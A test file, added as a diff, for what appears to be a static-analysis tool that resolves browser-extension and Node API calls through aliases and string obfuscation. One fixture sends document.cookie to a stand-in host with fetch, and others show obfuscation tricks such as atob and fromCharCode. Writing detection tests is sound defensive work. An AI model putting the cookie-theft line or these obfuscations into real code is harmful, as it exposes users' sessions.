@@ -1,0 +1,91 @@
+import { describe, expect, it } from 'vitest';
+import { parseScript } from './parse.ts';
+import { apiPath, callsNamed, callsOf, constant, pattern, placeAt, propertyOf, readsOf, show, writesOf } from './query.ts';
+
+const paths = (text: string, name: string): (string | undefined)[] => {
+  const script = parseScript(text);
+  return callsNamed(script, name).map((call) => apiPath(script, call.callee));
+};
+
+describe('names through aliases', () => {
+  it.each([
+    ['chrome.tabs.query({})', 'query'],
+    ['browser.tabs.query({})', 'query'],
+    ['window.chrome.tabs.query({})', 'query'],
+    ['const b = globalThis.browser ?? chrome; b.tabs.query({})', 'query'],
+    ['var b = typeof browser === "undefined" ? chrome : browser; b.tabs.query({})', 'query'],
+    ['import api from "webextension-polyfill"; api.tabs.query({})', 'query'],
+    ['import * as api from "webextension-polyfill"; api.tabs.query({})', 'query'],
+    ['import { tabs } from "webextension-polyfill"; tabs.query({})', 'query'],
+    ['import { browser } from "./api.js"; browser.tabs.query({})', 'query'],
+    ['const { tabs } = chrome; tabs.query({})', 'query'],
+    ['const { tabs: { query } } = chrome; query({})', 'query'],
+    ['chrome["tabs"]["que" + "ry"]({})', 'query'],
+    ['(function (c) { c.tabs.query({}) })(chrome)', 'query'],
+    ['const a = require("webextension-polyfill"); a.tabs.query({})', 'query'],
+    ['var n = r(42), o = r.n(n); o.a.tabs.query({})', 'query'],
+    ['let api = chrome; if (x) api = browser; api.tabs.query({})', 'query'],
+    ['var self = this; chrome.tabs.query.call(chrome.tabs, {})', 'call'],
+  ])('%s', (text, name) => {
+    const found = paths(text, name)[0];
+    expect(found?.replace(/\.call$/, '')).toBe('chrome.tabs.query');
+  });
+
+  it('names a local of the same name nothing', () => {
+    expect(paths('function f(fetch) { fetch("x") }', 'fetch')).toEqual([undefined]);
+  });
+
+  it('knows modules of Node', () => {
+    const script = parseScript('import { exec as run } from "node:child_process"; const { promisify } = require("util"); promisify(require("fs").readFile)("x"); run("ls")');
+    expect(callsOf(script, 'child_process.exec')).toHaveLength(1);
+    expect(callsOf(script, 'fs.readFile')).toHaveLength(1);
+  });
+});
+
+describe('constants', () => {
+  it.each([
+    ['f("a" + "b")', 'ab'],
+    ['const u = "a"; f(`${u}b`)', 'ab'],
+    ['f(atob("YWI="))', 'ab'],
+    ['f(String.fromCharCode(97, 98))', 'ab'],
+    ['f(["a", "b"].join(""))', 'ab'],
+    ['f("ba".split("").reverse().join(""))', 'ab'],
+    ['const c = { k: { v: "ab" } }; f(c.k.v)', 'ab'],
+    ['f(unescape("%61b"))', 'ab'],
+    ['f(x + "b")', undefined],
+  ])('%s', (text, expected) => {
+    const script = parseScript(text);
+    expect(constant(script, callsNamed(script, 'f')[0]?.args[0] ?? 0)).toBe(expected);
+  });
+
+  it('shows the shape of what is only partly known', () => {
+    const script = parseScript('const host = "https://a.example"; f(host + "/c?" + encodeURIComponent(x))');
+    expect(pattern(script, callsNamed(script, 'f')[0]?.args[0] ?? 0)).toBe('https://a.example/c?*');
+  });
+});
+
+describe('writes, reads, places', () => {
+  it('finds writes of a property', () => {
+    const script = parseScript('\n  el.innerHTML = x;\nel["inner" + "HTML"] += y;');
+    const found = writesOf(script, 'innerHTML');
+    expect(found).toHaveLength(2);
+    expect(placeAt(script, 'a.js', found[0]?.pos ?? 0)).toEqual({ path: 'a.js', line: 2, column: 3 });
+  });
+
+  it('finds reads of a name', () => {
+    expect(readsOf(parseScript('send(window.document.cookie)'), 'document.cookie')).toHaveLength(1);
+  });
+
+  it('finds properties through variables and spreads', () => {
+    const script = parseScript('const base = { code: "x" }; const o = { ...base, file: "y" }; f(o)');
+    const object = callsNamed(script, 'f')[0]?.args[0] ?? 0;
+    expect(constant(script, propertyOf(script, object, 'code'))).toBe('x');
+    expect(constant(script, propertyOf(script, object, 'file'))).toBe('y');
+    expect(propertyOf(script, object, 'none')).toBe(0);
+  });
+
+  it('writes values out as source', () => {
+    const script = parseScript('fetch("https://a.example/?c=" + document.cookie, { method: "POST", body: JSON.stringify(e) })');
+    expect(show(script, script.calls.at(-1) ?? 0)).toBe('fetch("https://a.example/?c=" + document.cookie, {method: "POST", body: JSON.stringify(e)})');
+  });
+});
